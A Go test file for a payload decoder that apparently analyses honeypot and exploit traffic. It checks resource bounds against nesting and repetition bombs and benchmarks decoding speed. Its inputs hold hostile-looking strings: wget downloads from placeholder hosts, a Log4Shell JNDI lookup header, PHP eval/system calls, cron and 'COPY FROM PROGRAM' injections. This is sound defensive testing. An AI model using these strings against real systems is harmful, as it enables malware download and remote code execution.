package decode

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// TestBombs: whatever is nested or repeated ends within the bounds, and the tree says which bound it was.
func TestBombs(t *testing.T) {
	megabytes := strings.Repeat("cd /tmp; wget http://192.0.2.9/x.sh\n", 300_000)
	noise := make([]byte, 1<<20)
	rng := rand.NewChaCha8([32]byte{})
	_, _ = rng.Read(noise) // It never fails.
	nested := dropper
	for range 12 {
		nested = b64(nested)
	}
	for name, c := range map[string]struct {
		in, bound string
	}{
		"base64 in base64 in gzip":  {zipped(b64(b64(megabytes))), "output"},
		"gzip of zeros":             {zipped(strings.Repeat("\x00", 50<<20)), "output"},
		"gzip in gzip":              {zipped(zipped(strings.Repeat(" ", 20<<20))), "output"},
		"plain":                     {megabytes, "input"},
		"base64":                    {b64(megabytes), "input"},
		"layers":                    {nested, "depth"},
		"deep JSON":                 {strings.Repeat(`{"a":`, 200_000) + `"x"`, ""},
		"deep JSON arrays":          {strings.Repeat(`[`, 500_000) + `"x"` + strings.Repeat(`]`, 500_000), ""},
		"many strings":              {"[" + strings.Repeat(`"\u0041 wget http://x/",`, 40_000) + `""]`, ""},
		"deep XML":                  {strings.Repeat("<a>", 300_000), ""},
		"parentheses":               {"cd /tmp;" + strings.Repeat("(", 60_000), ""},
		"substitutions":             {"cd /tmp;" + strings.Repeat("$(", 30_000) + "id" + strings.Repeat(")", 30_000), ""},
		"pipes":                     {"cd /tmp" + strings.Repeat("|a", 30_000), ""},
		"ands":                      {"cd /tmp" + strings.Repeat("&&a", 20_000), ""},
		"ifs":                       {"cd /tmp;" + strings.Repeat("if ", 20_000), ""},
		"doubling variables":        {"cd /tmp;A=xxxxxxxxxx;" + strings.Repeat("A=$A$A;", 2_000) + "$A", ""},
		"calls in calls":            {"<?php " + strings.Repeat("eval(", 100_000), ""},
		"joined strings":            {"<?php system(" + strings.Repeat("'a'.", 200_000) + "'b');", ""},
		"quotes":                    {"<?php " + strings.Repeat("system('", 100_000), ""},
		"characters":                {"<?php " + strings.Repeat("chr(99).", 100_000), ""},
		"variables in variables":    {"child_process " + strings.Repeat("a=a+a;", 100_000) + "exec(a)", ""},
		"percent of percent":        {"GET /" + strings.Repeat("%25", 100_000) + "41 HTTP/1.1\r\n\r\n", ""},
		"percent twenty times":      {"GET /%" + strings.Repeat("25", 300) + "41 HTTP/1.1\r\n\r\n", "depth"},
		"headers":                   {"GET / HTTP/1.1\r\n" + strings.Repeat("A: ${${lower:j}ndi:ldap://192.0.2.1/a}\r\n", 20_000) + "\r\n", ""},
		"parts":                     {post("multipart/form-data; boundary=X", strings.Repeat("--X\r\n\r\n", 100_000)), ""},
		"chunks":                    {"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" + strings.Repeat("1\r\na\r\n", 150_000), ""},
		"URLs with backslashes":     {strings.Repeat(`http://a\b.c `, 80_000), ""},
		"commands":                  {strings.Repeat("cd /tmp;wget http://x/`id`;", 30_000), ""},
		"cron lines":                {"set x \"" + strings.Repeat(`\n* * * * * id`, 50_000) + "\"\r\n", ""},
		"RESP":                      {strings.Repeat("*1\r\n$4\r\nPING\r\n", 70_000), ""},
		"copies":                    {"Q\x00\x0f\x00\x00" + strings.Repeat("COPY a FROM PROGRAM 'id';", 40_000), ""},
		"noise":                     {string(noise), ""},
		"noise in base64":           {b64(string(noise[:500_000])), ""},
		"letters":                   {strings.Repeat("A", 1<<20), ""},
		"slashes":                   {strings.Repeat(`\`, 1<<20), ""},
		"dollars":                   {strings.Repeat("${", 1<<19), ""},
		"plain hexadecimal letters": {strings.Repeat("41", 1<<19), ""},
	} {
		tr := Decode([]byte(c.in), Options{})
		check(t, tr, Options{})
		if c.bound != "" && tr.Truncated != c.bound {
			t.Errorf("%s: truncated by %q, want %q", name, tr.Truncated, c.bound)
		}
		if again := Decode([]byte(c.in), Options{}); show(again) != show(tr) {
			t.Errorf("%s: not the same twice", name)
		}
	}
}

// TestWork: every bound can be made small, and a result is then a beginning of the whole one.
func TestWork(t *testing.T) {
	in := []byte(zipped("x=" + b64(dropper)))
	whole := Decode(in, Options{})
	for _, o := range []Options{{MaxDepth: 1}, {MaxNodes: 1}, {MaxOutput: 10}, {MaxWork: 200}} {
		tr := Decode(in, o)
		check(t, tr, o)
		if tr.Truncated == "" || len(tr.Nodes) >= len(whole.Nodes) {
			t.Errorf("%+v: %d nodes, truncated by %q", o, len(tr.Nodes), tr.Truncated)
		}
	}
}

// BenchmarkDecode decodes the distinct payloads of the study, of a Docker honeypot and of an exploit, with one core.
func BenchmarkDecode(b *testing.B) {
	var list [][]byte
	seen := map[string]bool{}
	add := func(p []byte) {
		if !seen[string(p)] {
			seen[string(p)] = true
			list = append(list, p)
		}
	}
	for _, p := range studyPayloads(b) {
		add(p)
	}
	for _, r := range dockerRequests(b) {
		add(r.raw())
	}
	for _, e := range exploits(b) {
		add(e.Body)
	}
	size := 0
	for _, p := range list {
		size += len(p)
	}
	b.SetBytes(int64(size))
	b.ReportAllocs()
	for b.Loop() {
		for _, p := range list {
			Decode(p, Options{})
		}
	}
	b.ReportMetric(float64(len(list))*float64(b.N)/b.Elapsed().Seconds(), "payloads/s")
}
